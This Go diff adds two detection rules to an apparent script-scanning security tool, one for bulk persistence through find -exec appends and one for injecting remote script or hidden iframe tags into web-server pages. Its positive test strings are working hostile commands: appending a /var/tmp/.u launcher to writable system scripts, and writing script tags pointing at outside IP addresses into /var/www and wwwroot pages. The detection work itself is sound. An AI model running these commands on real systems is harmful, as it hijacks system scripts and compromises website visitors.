@@ -42,9 +42,35 @@ var keyHarvest = &rule{
 	},
 }
 
+var findAppend = &rule{
+	ID: "find-exec-append", Class: "persistence", Sev: high,
+	Msg: "appends text to every file a search across the system finds (writable scripts and configuration files hijacked in bulk, ATT&CK T1574, T1546.004)",
+	Must: []string{
+		"find / -type f -perm -o+w -exec sh -c 'echo \"/var/tmp/.u &\" >> \"{}\"' \\;",
+		"find /etc /usr/local/bin -writable -name '*.sh' -exec sh -c 'echo /var/tmp/.u >> {}' \\;",
+	},
+	MustNot: []string{
+		"find . -name '*.md' -exec sh -c 'echo \"\" >> \"{}\"' \\;",
+		"find / -perm -o+w -type f 2>/dev/null",
+	},
+}
+
+var webInject = &rule{
+	ID: "web-page-script-inject", Class: "initial access", Sev: high,
+	Msg: "adds a script or frame loaded from another host to a page a web server serves (a drive-by compromise of the site's visitors, ATT&CK T1189)",
+	Must: []string{
+		"echo '<script src=\"http://198.51.100.4/c.js\"></script>' >> /var/www/html/index.html",
+		"Add-Content C:\\inetpub\\wwwroot\\default.htm '<iframe src=\"https://198.51.100.5/x\" width=0 height=0></iframe>'",
+	},
+	MustNot: []string{
+		"echo '<script src=\"/static/app.js\"></script>' >> /var/www/html/index.html",
+		"echo '<script src=\"https://cdn.example.org/lib.js\"></script>' >> ./public/index.html",
+	},
+}
+
 // scriptRules are the checks of this file, for the example test and the
 // list of rule ids.
-var scriptRules = []*rule{collectArchive, keyHarvest}
+var scriptRules = []*rule{collectArchive, keyHarvest, findAppend, webInject}
 
 var (
 	docExtRe = regexp.MustCompile(`\.(docx?|docm|xlsx?|xlsm|pptx?|pdf|pst|ost|odt|ods|odp|rtf|eml|msg|kdbx)\b`)
@@ -107,6 +133,40 @@ func scriptChecks(a *analysis, put func(r *rule, sev sdk.Severity, s, e int)) {
 	if search && distinct(keyExtRe, asciiLower(a.text), 1) >= 4 {
 		put(keyHarvest, 0, 0, len(a.text))
 	}
+	for _, c := range a.calls {
+		if c.name == "find" && findAppends(c) {
+			put(findAppend, 0, c.start, c.end)
+			break
+		}
+	}
+	if l := asciiLower(a.text); strings.Contains(l, "src") && remoteScriptRe.MatchString(l) && webRootWriteRe.MatchString(l) {
+		put(webInject, 0, 0, len(a.text))
+	}
+}
+
+var (
+	remoteScriptRe  = regexp.MustCompile(`(?s)<(script|iframe)\b.{0,400}?\bsrc\s*=\s*\(?\s*\\?['"]?https?://`)
+	webRootWriteRe  = regexp.MustCompile(`(>>?|\btee\s+(-a\s+)?|\badd-content\s+(-path\s+)?|\bset-content\s+(-path\s+)?|\bout-file\s+(-append\s+)?(-filepath\s+)?)\s*['"]?(/var/www/|/usr/share/nginx/html/|/srv/(www|http)/|c:\\+inetpub\\+wwwroot\\)`)
+	appendToFoundRe = regexp.MustCompile(`(>>|\btee\s+-a)\s*\\?['"]?\{\}`)
+)
+
+// findAppends reports a find that searches the system (from /, a system
+// or home folder, or for files anyone may write) and runs a shell that
+// appends to each file it finds.
+func findAppends(c *call) bool {
+	j := strings.Join(c.args(), " ")
+	if !strings.Contains(j, "{}") || !appendToFoundRe.MatchString(j) {
+		return false
+	}
+	for _, a := range c.args() {
+		switch {
+		case a == "-writable", a == "-perm" && strings.Contains(j, "-perm -"), a == "/", a == "~", a == "/home", a == "/Users":
+			return true
+		case strings.HasPrefix(a, "/") && isSystemPath(a):
+			return true
+		}
+	}
+	return false
 }
 
 // distinct counts the different values of group g of re in s.
